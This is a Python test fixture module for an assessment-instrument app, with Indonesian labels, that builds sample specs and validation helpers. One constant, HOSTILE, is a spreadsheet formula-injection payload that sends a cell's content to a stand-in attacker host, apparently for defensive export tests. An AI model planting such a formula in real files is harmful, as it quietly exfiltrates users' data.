"""Instrument specs for the instrument tests: the default instrument, a small spec, and readers of both."""

import pytest

from inkubator.assessment.default_instrument import default_instrument_spec
from inkubator.assessment.instrument_io import SpecError, validate_spec

DEFAULT_INSTRUMENT = default_instrument_spec()  # shared by the tests, which only read it
HOSTILE = '=HYPERLINK("http://evil.example/x?d="&A1,"Klik untuk detail")'


def small_spec():
    return {
        "code": "uji",
        "version": 1,
        "name": "Uji",
        "dimensions": [
            {
                "code": "A",
                "name": "Kelembagaan",
                "weight": "0.5",
                "indicators": [
                    {
                        "code": "A1",
                        "kind": "scale",
                        "question": "Tingkat?",
                        "options": [
                            {"value": "1", "label": "satu", "score": "1"},
                            {"value": "2", "label": "dua", "score": "2"},
                        ],
                    },
                    {"code": "A2", "kind": "yes_no", "question": "Ada SK?"},
                ],
            },
            {
                "code": "B",
                "name": "Sarpras",
                "weight": "0.5",
                "indicators": [
                    {
                        "code": "B1",
                        "kind": "number",
                        "question": "Luas?",
                        "min_value": "0",
                        "max_value": "100",
                        "bands": [
                            {"lower": "0", "upper": "5", "score": "0"},
                            {"lower": "5", "upper": None, "score": "2"},
                        ],
                    },
                    {
                        "code": "B2",
                        "kind": "choice",
                        "question": "Bentuk?",
                        "options": [
                            {"value": "a", "label": "A", "score": "0"},
                            {"value": "b", "label": "B", "score": "1"},
                        ],
                    },
                    {"code": "B3", "kind": "text", "question": "Catatan?"},
                ],
            },
        ],
    }


def indicator(spec, code):
    return next(i for d in spec["dimensions"] for i in d["indicators"] if i["code"] == code)


def problems_of(spec):
    with pytest.raises(SpecError) as excinfo:
        validate_spec(spec)
    return excinfo.value.messages


def all_indicators(spec):
    return [(d, i) for d in spec["dimensions"] for i in d["indicators"]]
